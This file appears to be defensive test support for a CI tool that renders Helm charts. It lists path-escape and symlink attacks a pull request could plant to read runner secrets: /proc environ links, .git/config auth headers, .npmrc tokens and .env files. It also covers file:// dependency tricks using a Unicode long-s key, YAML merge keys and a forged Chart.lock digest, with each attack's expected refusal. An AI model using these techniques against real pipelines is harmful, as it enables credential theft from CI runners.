/**
 * What a pull request plants to make a run read what the runner holds: links, and paths that lead out of its checkout.
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { onTestFinished } from 'vitest';
import { startDemoRegistry } from '../../scripts/demo-registry.ts';
import { toolFolder } from '../../scripts/tools.ts';
import { runAsAzureTask } from '../support/azure-agent.ts';
import { type Files, writeFiles } from '../support/charts.ts';
import { checkoutAt } from '../support/checkout.ts';
import { testFolder } from '../support/folder.ts';
import { runAsGitHubAction } from '../support/github-runner.ts';
import type { HostRequest, HostRun, RunOnHost } from '../support/host-run.ts';
import { runInTerminal } from '../support/terminal.ts';

/** Letters and digits alone: nothing escapes them, and they fit into the name of an image. */
const secret = 'planted0secret0of0the0runner';

export interface Scene {
  /** The checkout. */
  readonly work: string;
  /** Beside it: what no pull request can write. */
  readonly outside: string;
  /** A chart whose image is named after what the template expression gives. */
  sends(name: string, expression: string, more?: Files): Files;
}

export interface Attack {
  readonly title: string;
  /** The code of the error that refuses it, or that the chart is rendered and its image has no secret in its name. */
  readonly ends: 'path-outside' | 'chart-invalid' | 'dependency-missing' | 'nothing to send';
  /** Plants it; gives the inputs of the workflow. */
  plant(scene: Scene): Promise<Readonly<Record<string, string>>>;
}

export const dockerConfig = JSON.stringify({ auths: { 'registry.example': { password: secret } } });

export const ofFile = (path: string) => `.Files.Get "${path}"`;
export const ofValues = '.Values | toJson';

export function chartYaml(name: string, more = ''): Files {
  return { 'Chart.yaml': `apiVersion: v2\nname: ${name}\nversion: 1.0.0\n${more}` };
}

export function dependsOnLib(repository: string): string {
  return `dependencies:\n- { name: lib, version: 1.0.0, repository: "${repository}" }\n`;
}

/** A process that holds a credential as a step of a workflow does. */
function processWithSecret(): number {
  const child = spawn('sleep', ['120'], {
    env: { ...process.env, 'INPUT_REGISTRY-CREDENTIALS': `r.example me ${secret}` },
  });
  onTestFinished(() => void child.kill());
  return child.pid ?? 0;
}

/** As helm writes and checks it (internal/resolver, HashReq). */
function lockOf(wanted: string, locked: string): string {
  const entry = (repository: string) => ({ name: 'lib', version: '1.0.0', repository });
  const digest = createHash('sha256')
    .update(JSON.stringify([[entry(wanted)], [entry(locked)]]))
    .digest('hex');
  return `dependencies:\n- name: lib\n  repository: ${locked}\n  version: 1.0.0\ndigest: sha256:${digest}\ngenerated: "2026-01-01T00:00:00Z"\n`;
}

/** A library beside the checkout or in it, which sends what its file `env` holds. */
async function libraryWithSecret(folder: string, { sends }: Scene): Promise<void> {
  await writeFiles(folder, sends('lib', ofFile('env')));
  await writeFile(join(folder, 'env'), secret);
}

export const attacks: readonly Attack[] = [
  {
    title: 'an absolute file:// dependency with a link to the environment of a process',
    ends: 'path-outside',
    async plant({ work, sends }) {
      await writeFiles(join(work, 'lib'), sends('lib', ofFile('env')));
      await symlink(`/proc/${processWithSecret()}/environ`, join(work, 'lib/env'));
      await writeFiles(join(work, 'web'), chartYaml('web', dependsOnLib(`file://${work}/lib`)));
      return { charts: 'web' };
    },
  },
  {
    title: 'a value file that chart-images.yaml names by an absolute path',
    ends: 'path-outside',
    async plant({ work, outside, sends }) {
      await writeFile(join(outside, 'config.json'), dockerConfig);
      await writeFiles(join(work, 'web'), sends('web', ofValues));
      const values = join(outside, 'config.json');
      await writeFiles(work, { 'chart-images.yaml': `charts: [{ chart: web, values: ["${values}"] }]\n` });
      return {};
    },
  },
  {
    title: "a link of a chart to the checkout's own .git/config",
    ends: 'chart-invalid',
    async plant({ work, sends }) {
      await writeFiles(join(work, 'charts/web'), sends('web', ofFile('notes')));
      await symlink('../../.git/config', join(work, 'charts/web/notes'));
      return { charts: 'charts/web' };
    },
  },
];

export const moreAttacks: readonly Attack[] = [
  {
    title: 'a link of a chart into a checkout of another repository within the checkout',
    ends: 'chart-invalid',
    async plant({ work, sends }) {
      await writeFiles(work, { 'tools/.git/HEAD': '', 'tools/env': secret });
      await writeFiles(join(work, 'web'), sends('web', ofFile('env')));
      await symlink('../tools/env', join(work, 'web/env'));
      return { charts: 'web' };
    },
  },
  {
    title: 'a file:// dependency in a checkout of another repository within the checkout',
    ends: 'path-outside',
    async plant(scene) {
      const { work } = scene;
      await writeFiles(work, { 'tools/.git/HEAD': '' });
      await libraryWithSecret(join(work, 'tools/lib'), scene);
      await writeFiles(join(work, 'web'), chartYaml('web', dependsOnLib('file://../tools/lib')));
      return { charts: 'web' };
    },
  },
  {
    title: 'a chart of another repository within the checkout that chart-images.yaml names',
    ends: 'path-outside',
    async plant(scene) {
      const { work } = scene;
      await writeFiles(work, { 'tools/.git/HEAD': '', 'chart-images.yaml': 'charts: [{ chart: tools/lib }]\n' });
      await libraryWithSecret(join(work, 'tools/lib'), scene);
      return {};
    },
  },
  {
    title: 'a value file of the workflow that became a link',
    ends: 'path-outside',
    async plant({ work, outside, sends }) {
      await writeFile(join(outside, 'config.json'), dockerConfig);
      await writeFiles(join(work, 'web'), sends('web', ofValues));
      await mkdir(join(work, 'values'));
      await symlink(join(outside, 'config.json'), join(work, 'values/prod.yaml'));
      return { charts: 'web', values: 'values/prod.yaml' };
    },
  },
  {
    title: 'a folder of value files that became a link, by way of another link',
    ends: 'path-outside',
    async plant({ work, outside, sends }) {
      await writeFiles(outside, { 'prod.yaml': dockerConfig });
      await writeFiles(join(work, 'web'), sends('web', ofValues));
      await symlink(outside, join(work, 'elsewhere'));
      await symlink('elsewhere', join(work, 'values'));
      return { charts: 'web', values: 'values/prod.yaml' };
    },
  },
  {
    title: 'a value file that became a link to .git/config with YAML in it',
    ends: 'path-outside',
    async plant({ work, sends }) {
      await writeFiles(work, { '.git/config': `token: ${secret}\n` });
      await writeFiles(join(work, 'web'), sends('web', ofValues));
      await symlink('.git/config', join(work, 'prod.yaml'));
      return { charts: 'web', values: 'prod.yaml' };
    },
  },
  {
    title: 'a chart folder of the workflow that became a link to a sibling checkout',
    ends: 'path-outside',
    async plant({ work, outside, sends }) {
      await writeFiles(join(outside, 'web'), sends('web', ofFile('env'), { env: secret }));
      await symlink(join(outside, 'web'), join(work, 'web'));
      return { charts: 'web' };
    },
  },
  {
    title: 'a chart in a sibling checkout that chart-images.yaml names',
    ends: 'path-outside',
    async plant({ work, outside, sends }) {
      await writeFiles(join(outside, 'web'), sends('web', ofFile('env'), { env: secret }));
      await writeFiles(work, { 'chart-images.yaml': `charts: [{ chart: "../outside/web" }]\n` });
      return {};
    },
  },
  {
    title: 'charts in a sibling checkout that a pattern of chart-images.yaml matches',
    ends: 'path-outside',
    async plant({ work, outside, sends }) {
      await writeFiles(join(outside, 'web'), sends('web', ofFile('env'), { env: secret }));
      await writeFiles(work, { 'chart-images.yaml': `charts: [{ chart: "../out*/w*" }]\n` });
      return {};
    },
  },
  {
    title: 'default_values of cnf-input.jsonc with an absolute path',
    ends: 'path-outside',
    async plant({ work, outside, sends }) {
      await writeFile(join(outside, 'config.json'), dockerConfig);
      await writeFiles(join(work, 'web'), sends('web', ofValues));
      const helmPackage = { name: 'web', path_to_chart: 'web', default_values: join(outside, 'config.json') };
      const input = { version: '1.0.0', nf_name: 'n', image_sources: ['r.example'], helm_packages: [helmPackage] };
      await writeFiles(work, { 'cnf-input.jsonc': JSON.stringify(input) });
      return { 'input-file': 'cnf-input.jsonc', 'image-sources': 'upstream' };
    },
  },
  {
    title: 'a relative file:// dependency that leaves the checkout',
    ends: 'path-outside',
    async plant(scene) {
      await libraryWithSecret(join(scene.outside, 'lib'), scene);
      await writeFiles(join(scene.work, 'web'), chartYaml('web', dependsOnLib('file://../../outside/lib')));
      return { charts: 'web' };
    },
  },
  {
    title: 'a file:// dependency whose folder is a link',
    ends: 'path-outside',
    async plant(scene) {
      await libraryWithSecret(join(scene.outside, 'lib'), scene);
      await symlink(join(scene.outside, 'lib'), join(scene.work, 'lib'));
      await writeFiles(join(scene.work, 'web'), chartYaml('web', dependsOnLib('file://../lib')));
      return { charts: 'web' };
    },
  },
  {
    title: 'a file:// dependency that only Chart.lock has, with the digest that helm asks for',
    ends: 'dependency-missing',
    async plant(scene) {
      await libraryWithSecret(join(scene.outside, 'lib'), scene);
      await writeFiles(join(scene.work, 'good'), scene.sends('lib', '"nothing"'));
      const locked = `file://${join(scene.outside, 'lib')}`;
      await writeFiles(join(scene.work, 'web'), {
        ...chartYaml('web', dependsOnLib('file://../good')),
        'Chart.lock': lockOf('file://../good', locked),
      });
      return { charts: 'web' };
    },
  },
  {
    title: 'a file:// dependency under a key that only helm reads as repository',
    ends: 'path-outside',
    async plant(scene) {
      await libraryWithSecret(join(scene.outside, 'lib'), scene);
      await writeFiles(join(scene.work, 'good'), scene.sends('lib', '"nothing"'));
      // Go takes a long s for an s where it reads the keys of JSON.
      const both = `repository: "file://../good", "repo\\u017fitory": "file://${join(scene.outside, 'lib')}"`;
      const dependencies = `dependencies:\n- { name: lib, version: 1.0.0, ${both} }\n`;
      await writeFiles(join(scene.work, 'web'), chartYaml('web', dependencies));
      return { charts: 'web' };
    },
  },
  {
    title: 'a file:// dependency in a YAML merge key',
    ends: 'path-outside',
    async plant(scene) {
      await libraryWithSecret(join(scene.outside, 'lib'), scene);
      const merged = `x: &x { repository: "file://${join(scene.outside, 'lib')}" }\n`;
      const dependencies = `${merged}dependencies:\n- { <<: *x, name: lib, version: 1.0.0 }\n- { name: other, version: 1.0.0, repository: "file://../good" }\n`;
      await writeFiles(join(scene.work, 'good'), scene.sends('other', '"nothing"'));
      await writeFiles(join(scene.work, 'web'), chartYaml('web', dependencies));
      // Not missing, but fetched anew with what is.
      await writeFiles(join(scene.work, 'web/charts/lib'), chartYaml('lib'));
      return { charts: 'web' };
    },
  },
  {
    title: 'a file:// dependency of Chart.yaml that requirements.yaml hides',
    ends: 'path-outside',
    async plant(scene) {
      await libraryWithSecret(join(scene.outside, 'lib'), scene);
      await writeFiles(join(scene.work, 'good'), scene.sends('other', '"nothing"'));
      const hidden = chartYaml('web', dependsOnLib(`file://${join(scene.outside, 'lib')}`));
      const shown =
        '- { name: lib, version: 1.0.0 }\n- { name: other, version: 1.0.0, repository: "file://../good" }\n';
      await writeFiles(join(scene.work, 'web'), { ...hidden, 'requirements.yaml': `dependencies:\n${shown}` });
      await writeFiles(join(scene.work, 'web/charts/lib'), chartYaml('lib'));
      return { charts: 'web' };
    },
  },
  {
    title: 'a chart at the root of the checkout that reads .git/config',
    ends: 'nothing to send',
    async plant({ work, sends }) {
      await writeFiles(work, sends('web', ofFile('.git/config')));
      return { charts: '.' };
    },
  },
  {
    title: 'a file:// dependency on the root of the checkout that reads .git/config',
    ends: 'nothing to send',
    async plant({ work, sends }) {
      await writeFiles(work, sends('lib', ofFile('.git/config')));
      await writeFiles(join(work, 'charts-of-us/web'), chartYaml('web', dependsOnLib('file://../..')));
      return { charts: 'charts-of-us/web' };
    },
  },
  {
    title: 'a chart whose files are a link to a folder with a .env of an earlier step in it',
    ends: 'nothing to send',
    async plant({ work, sends }) {
      await writeFiles(join(work, 'charts/web'), sends('web', ofFile('files/.env')));
      await writeFiles(join(work, 'service'), { '.env': `TOKEN=${secret}\n` });
      await symlink('../../service', join(work, 'charts/web/files'));
      return { charts: 'charts/web' };
    },
  },
  {
    title: 'a charts/ folder that is a link to a folder with a checkout in it',
    ends: 'nothing to send',
    async plant({ work, sends }) {
      await writeFiles(join(work, 'third-party/sub'), sends('sub', ofFile('.git/config')));
      await writeFiles(join(work, 'third-party/sub'), { '.git/config': secret });
      await writeFiles(join(work, 'web'), chartYaml('web'));
      await symlink('../third-party', join(work, 'web/charts'));
      return { charts: 'web' };
    },
  },
  {
    title: 'a link of a chart to the .npmrc that an earlier step wrote',
    ends: 'chart-invalid',
    async plant({ work, sends }) {
      await writeFiles(work, { '.npmrc': `//registry.example/:_authToken=${secret}\n` });
      await writeFiles(join(work, 'web'), sends('web', ofFile('notes')));
      await symlink('../.npmrc', join(work, 'web/notes'));
      return { charts: 'web' };
    },
  },
  {
    title: 'a chart at the root of the checkout that reads the .env that an earlier step wrote',
    ends: 'nothing to send',
    async plant({ work, sends }) {
      await writeFiles(work, { ...sends('web', ofFile('.env')), '.env': `TOKEN=${secret}\n` });
      return { charts: '.' };
    },
  },
];

export async function runAttack(
  attack: Attack,
  run: RunOnHost,
): Promise<{ readonly run: HostRun; readonly seen: string }> {
  const registry = await startDemoRegistry();
  onTestFinished(async () => await registry.stop());
  const top = await testFolder();
  const [work, outside, home] = [join(top, 'work'), join(top, 'outside'), join(top, 'home')];
  for (const folder of [work, outside, home]) await mkdir(folder);
  await checkoutAt(work).git('init', '--quiet');
  // As actions/checkout leaves it for later steps.
  await checkoutAt(work).git('config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${secret}`);
  const sends = (name: string, expression: string, more: Files = {}): Files => ({
    ...chartYaml(name),
    'templates/pod.yaml': [
      'apiVersion: v1',
      'kind: Pod',
      `metadata: { name: ${name} }`,
      `spec: { containers: [{ name: web, image: "${registry.host}/${name}/{{ ${expression.replaceAll('"', '`')} | regexFind \`planted[a-z0-9]+\` | default \`nothing\` }}:1" }] }`,
      '',
    ].join('\n'),
    ...more,
  });
  const inputs = await attack.plant({ work, outside, sends });
  const request: HostRequest = { node: process.execPath, work, home, path: [toolFolder('helm-4')], inputs };
  const ended = await run(request);
  const report = await readFile(join(work, 'images.json'), 'utf8').catch(() => '');
  const asked = registry.requests.map(({ path }) => path).join('\n');
  return { run: ended, seen: [ended.log, ended.summary, JSON.stringify(ended.outputs), report, asked].join('\n') };
}

export const hosts: readonly (readonly [string, RunOnHost])[] = [
  ['a terminal', async (request) => await runInTerminal(request)],
  ['the GitHub runner', runAsGitHubAction],
  ['the Azure agent', runAsAzureTask],
];
